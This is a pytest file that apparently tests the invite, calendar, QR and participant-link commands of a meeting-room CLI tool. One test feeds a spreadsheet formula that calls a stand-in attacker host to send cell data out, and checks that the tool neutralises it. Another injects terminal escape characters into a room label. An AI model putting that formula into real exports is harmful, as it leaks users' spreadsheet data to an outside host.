"""roomdesk-cli invite, ics, qr and links, end to end through ``run`` with a fresh room list."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from dateutil.rrule import rrulestr
from icalendar import Calendar

from roomdesk.api.models import Meeting
from roomdesk.cli import run
from roomdesk.domain.series import Frequency, RoomSeries, SeriesRule, expand_series
from roomdesk.paths import app_paths
from roomdesk.secrets import KeyStore
from roomdesk.store import RoomStore
from tests.memory_keyring import MemoryKeyring
from tests.test_sessions_qr import read_png

NOW = datetime.now(UTC).replace(second=0, microsecond=0)
MADE = NOW - timedelta(hours=1)
LINK = "https://team.whereby.com/coaching-1a2b"
HOST_LINK = f"{LINK}?roomKey=host-secret-77"


@pytest.fixture(autouse=True)
def oslo(monkeypatch):
    # A room planned without a zone of its own is shown in the system's.
    monkeypatch.setenv("TZ", "Europe/Oslo")


def add_room(meeting_id="m-101", *, label="Coaching with Sam", end=None, **meeting):
    with RoomStore(app_paths().ensure().store_file) as store:
        return store.add_created(
            Meeting(
                meeting_id,
                meeting.pop("room_url", LINK),
                end or NOW + timedelta(hours=2),
                room_name="/coaching-1a2b",
                host_room_url=HOST_LINK,
                **meeting,
            ),
            room_mode="normal",
            options={},
            label=label,
            notes="Bring one question.",
            created_at=MADE,
        )


def stored_rooms():
    with RoomStore(app_paths().ensure().store_file) as store:
        return store.list_rooms(include_past=True, now=NOW)


def cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    keys = KeyStore(environ={}, keyring_backend=MemoryKeyring())
    code = run(list(argv), keys=keys, out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def local(moment: datetime) -> str:
    return moment.astimezone(ZoneInfo("Europe/Oslo")).strftime("%H:%M")


# -- invite --------------------------------------------------------------------------------------


def test_a_planned_session_is_handed_out_at_its_start_in_its_own_zone():
    add_room(end=NOW + timedelta(days=3))
    start = (NOW + timedelta(days=1)).replace(hour=14, minute=0)
    code, _, err = cli(
        "edit", "m-101", "--start", start.strftime("%Y-%m-%dT%H:%M"), "--tz", "Asia/Tokyo"
    )
    assert (code, err) == (0, "")
    code, out, err = cli("invite", "m-101")
    assert (code, err) == (0, "")
    assert "14:00" in out and "Asia/Tokyo, UTC+09:00" in out
    code, out, err = cli("ics", "m-101")
    assert (code, err) == (0, "")
    event = next(iter(Calendar.from_ical(out.encode()).walk("VEVENT")))
    begins = event.decoded("DTSTART")
    assert (begins.hour, begins.minute, str(begins.tzinfo)) == (14, 0, "Asia/Tokyo")


def test_invite_prints_the_invitation_with_the_participant_link():
    add_room()
    code, out, err = cli("invite", "m-101")
    assert (code, err) == (0, "")
    assert "You're invited: Coaching with Sam" in out
    assert f"Join: {LINK}\n" in out
    assert "roomKey" not in out and "host-secret" not in out
    # No start was planned: the room is open from when it was made.
    (when,) = [line for line in out.splitlines() if line.startswith("When: ")]
    assert when.startswith("When: open from ")
    assert f", {local(MADE)}–" in when and local(NOW + timedelta(hours=2)) in when
    assert "(Europe/Oslo, UTC+0" in out
    assert "Bring one question." not in out


def test_invite_adds_the_notes_when_asked_and_takes_a_template_file(tmp_path):
    add_room()
    template = tmp_path / "invite.txt"
    template.write_text("Hi! {label} at {link}\n{notes}\n", encoding="utf-8")
    code, out, err = cli("invite", "m-101", "--template", str(template), "--notes")
    assert (code, err) == (0, "")
    assert out == f"Hi! Coaching with Sam at {LINK}\nBring one question.\n"


def test_a_template_with_a_typo_is_refused_naming_it(tmp_path):
    add_room()
    template = tmp_path / "invite.txt"
    template.write_text("Hi {lable}, join {link", encoding="utf-8")
    code, out, err = cli("invite", "m-101", "--template", str(template))
    assert (code, out) == (2, "")
    assert err.startswith(f"error: the template {template} cannot be used: {{lable}} is not")
    assert "(did you mean {label}?)" in err
    assert "line 1: a { is not closed" in err
    assert err.count("\n") == 1


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda path: None, "there is no such file"),
        (lambda path: path.mkdir(), "it is a folder, not a file"),
        (lambda path: path.write_bytes(b"\xff\xfe{label}"), "it is not UTF-8 text"),
    ],
)
def test_a_template_file_that_cannot_be_read_says_why(tmp_path, make, message):
    add_room()
    path = tmp_path / "invite.txt"
    make(path)
    code, _, err = cli("invite", "m-101", "--template", str(path))
    assert code == 2
    assert err == f"error: --template {path}: {message}\n"


def test_an_unknown_meeting_id_exits_2_and_says_where_to_look():
    add_room()
    for argv in (
        ["invite", "nope"],
        ["ics", "m-101", "nope"],
        ["qr", "nope", "-o", "x.png"],
        ["links", "nope", "--name", "Sam"],
    ):
        code, out, err = cli(*argv)
        assert (code, out) == (2, ""), argv
        assert err.startswith("error: no stored room has the meeting ID “nope”"), argv
        assert "roomdesk-cli list --all" in err


def test_an_expired_or_deleted_room_is_not_handed_out():
    add_room("m-old", end=NOW - timedelta(hours=3))
    code, _, err = cli("invite", "m-old")
    assert code == 2
    assert err == "error: the room “Coaching with Sam” is expired: nobody can join it any more\n"
    add_room("m-gone")
    with RoomStore(app_paths().ensure().store_file) as store:
        store.mark_deleted(["m-gone"])
    code, _, err = cli("ics", "m-gone")
    assert code == 2 and "is deleted" in err


def test_control_characters_in_a_label_are_shown_as_escapes():
    add_room(label="Sam\x1b[2J\u202e")
    code, out, _ = cli("invite", "m-101")
    assert code == 0
    assert "Sam\\x1b[2J\\u202e" in out and "\x1b" not in out


# -- ics -----------------------------------------------------------------------------------------


def test_ics_writes_a_calendar_to_standard_output():
    add_room()
    add_room("m-202", label="Stand-up", room_url="https://team.whereby.com/standup-9")
    code, out, err = cli("ics", "m-101", "m-202", "m-101", "--alarm", "10")
    assert (code, err) == (0, "")
    assert out.startswith("BEGIN:VCALENDAR\r\n")
    calendar = Calendar.from_ical(out)
    events = [part for part in calendar.walk() if part.name == "VEVENT"]
    assert [str(event["UID"]) for event in events] == ["m-101@roomdesk", "m-202@roomdesk"]
    assert [str(event["URL"]) for event in events] == [LINK, "https://team.whereby.com/standup-9"]
    assert events[0]["DTSTART"].params["TZID"] == "Europe/Oslo"
    assert events[0].decoded("DTSTART") == MADE
    assert "No start time was planned" in str(events[0]["DESCRIPTION"])
    assert "roomKey" not in out
    assert [part.name for part in events[0].walk()] == ["VEVENT", "VALARM"]


def test_ics_gives_a_one_room_series_its_repeating_event():
    first = (NOW + timedelta(days=2)).astimezone(ZoneInfo("Europe/Oslo"))
    rule = SeriesRule(
        first.replace(hour=14, minute=0, tzinfo=None),
        timedelta(minutes=90),
        "Europe/Oslo",
        Frequency.DAILY,
        times=5,
    )
    sessions = expand_series(rule, now=NOW)
    with RoomStore(app_paths().ensure().store_file) as store:
        store.add_created(
            Meeting("m-303", LINK, sessions[-1].end, room_name="/coaching-1a2b"),
            room_mode="normal",
            options={},
            label="Daily check-in",
            planned_start=sessions[0].start,
            time_zone="Europe/Oslo",
            series=RoomSeries.of(rule, sessions),
        )
    code, out, err = cli("ics", "m-303")
    assert (code, err) == (0, "")
    (event,) = Calendar.from_ical(out.encode()).walk("VEVENT")
    assert event.decoded("DTSTART") == sessions[0].start
    assert event.decoded("DTEND") == sessions[0].end  # one session, not the whole series
    rule_text = event["RRULE"].to_ical().decode()
    assert sorted(rule_text.split(";")) == ["COUNT=5", "FREQ=DAILY", "INTERVAL=1"]
    walls = rrulestr(rule_text, dtstart=sessions[0].start.replace(tzinfo=None))
    occurrences = [wall.replace(tzinfo=ZoneInfo("Europe/Oslo")) for wall in walls]
    assert occurrences == [s.start for s in sessions]
    code, out, err = cli("invite", "m-303")
    assert "14:00–15:30, daily, 5 sessions until" in out


def test_ics_writes_a_file_when_given_one(tmp_path):
    add_room()
    target = tmp_path / "sessions.ics"
    code, out, err = cli("ics", "m-101", "-o", str(target))
    assert (code, err) == (0, "")
    assert out == f"Calendar file with 1 room written to {target}.\n"
    assert target.read_bytes().startswith(b"BEGIN:VCALENDAR\r\n")
    assert len(Calendar.from_ical(target.read_bytes()).walk("VEVENT")) == 1


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--alarm", "-5"], "error: --alarm -5: the alarm must be between 0 and 10080 minutes"),
        (["--alarm", "soon"], "error: argument --alarm: invalid int value: 'soon'"),
        (["-o", "{missing}/x.ics"], "error: Could not write {missing}/x.ics: its folder does"),
    ],
)
def test_ics_refuses_bad_input_and_changes_nothing(tmp_path, argv, message):
    add_room()
    before = stored_rooms()
    argv = [arg.replace("{missing}", str(tmp_path / "missing")) for arg in argv]
    code, out, err = cli("ics", "m-101", *argv)
    assert (code, out) == (2, "")
    assert err.startswith(message.replace("{missing}", str(tmp_path / "missing")))
    assert stored_rooms() == before


# -- qr ------------------------------------------------------------------------------------------


def test_qr_saves_the_participant_link_as_png_or_svg(tmp_path):
    add_room()
    png, svg = tmp_path / "room.png", tmp_path / "room.svg"
    assert cli("qr", "m-101", "-o", str(png)) == (
        0,
        f"QR code of {LINK} written to {png}.\n",
        "",
    )
    assert read_png(png.read_bytes()) == [LINK]
    assert cli("qr", "m-101", "-o", str(svg))[0] == 0
    assert svg.read_text(encoding="utf-8").lstrip().startswith("<?xml")


def test_qr_refuses_another_format_and_a_path_it_cannot_write(tmp_path):
    add_room()
    code, _, err = cli("qr", "m-101", "-o", str(tmp_path / "room.jpg"))
    assert code == 2
    assert err == f"error: -o {tmp_path / 'room.jpg'}: give a file name ending in .png or .svg\n"
    (tmp_path / "taken.png").mkdir()
    code, _, err = cli("qr", "m-101", "-o", str(tmp_path / "taken.png"))
    assert code == 2 and "it is a folder" in err
    code, _, err = cli("qr", "m-101")
    assert code == 2 and "-o/--output" in err
    assert not list(tmp_path.glob("*.jpg")) and not list(tmp_path.glob(".*"))


# -- links ---------------------------------------------------------------------------------------


def test_links_prints_a_tab_separated_list_with_a_header():
    add_room()
    code, out, err = cli(
        "links", "m-101", "--name", "Jørn Ødegård", "--name", " Kim ", "--lang", "NB",
        "--camera-off", "--microphone-off",
    )  # fmt: skip
    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == "name\texternalId\tlink"
    assert lines[1] == (
        f"Jørn Ødegård\tjorn-odegard\t{LINK}?displayName=J%C3%B8rn%20%C3%98deg%C3%A5rd"
        "&externalId=jorn-odegard&lang=nb&video=off&audio=off"
    )
    assert lines[2].startswith(f"Kim\tkim\t{LINK}?displayName=Kim&externalId=kim")
    assert len(lines) == 3


def test_links_as_csv():
    add_room()
    code, out, _ = cli("links", "m-101", "--name", "Sam, Jr.", "--name", "Kim", "--csv")
    assert code == 0
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0] == ["name", "externalId", "link"]
    assert rows[1][:2] == ["Sam, Jr.", "sam-jr"]
    assert "\r" not in out


@pytest.mark.parametrize("as_csv", [True, False])
def test_links_never_hand_a_spreadsheet_a_formula(as_csv):
    add_room()
    names = ["--name", '=WEBSERVICE("evil.example/?"&A1)', "--name", "@Kim"]
    code, out, _ = cli("links", "m-101", *names, *(["--csv"] if as_csv else []))
    assert code == 0
    rows = list(csv.reader(io.StringIO(out), delimiter="," if as_csv else "\t"))
    assert [row[0] for row in rows] == ["name", '\'=WEBSERVICE("evil.example/?"&A1)', "'@Kim"]
    assert rows[1][2].startswith(f"{LINK}?displayName=%3DWEBSERVICE")


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["--name", "Sam", "--lang", "xx"], "“xx” is not a language Whereby offers"),
        (["--name", "Sam", "--name", "sam"], "“sam” is listed twice (as “Sam” before)"),
        (["--name", "Sam: host"], "“Sam: host” contains :; Whereby allows none of"),
        (["--name", "  "], "no names given"),
    ],
)
def test_links_refuses_bad_names_and_languages_naming_them(argv, message):
    add_room()
    before = stored_rooms()
    code, out, err = cli("links", "m-101", *argv)
    assert (code, out) == (2, "")
    assert err.startswith("error: no links made: ")
    assert message in err
    assert stored_rooms() == before


def test_the_new_commands_are_in_the_help(capsys):
    assert cli("--help")[0] == 0
    listed = capsys.readouterr().out
    for name in ("invite", "ics", "qr", "links"):
        assert f"    {name} " in listed


def test_nothing_stored_changes(tmp_path):
    add_room()
    before = stored_rooms()
    for argv in (
        ["invite", "m-101", "--notes"],
        ["ics", "m-101", "-o", str(tmp_path / "a.ics")],
        ["qr", "m-101", "-o", str(tmp_path / "a.png")],
        ["links", "m-101", "--name", "Sam"],
    ):
        assert cli(*argv)[0] == 0, argv
    assert stored_rooms() == before


def test_the_other_commands_start_without_the_calendar_and_qr_libraries():
    probe = "import sys, roomdesk.cli; print(sorted({'icalendar', 'segno'} & set(sys.modules)))"
    done = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, check=True, timeout=60
    )
    assert done.stdout.strip() == "[]"
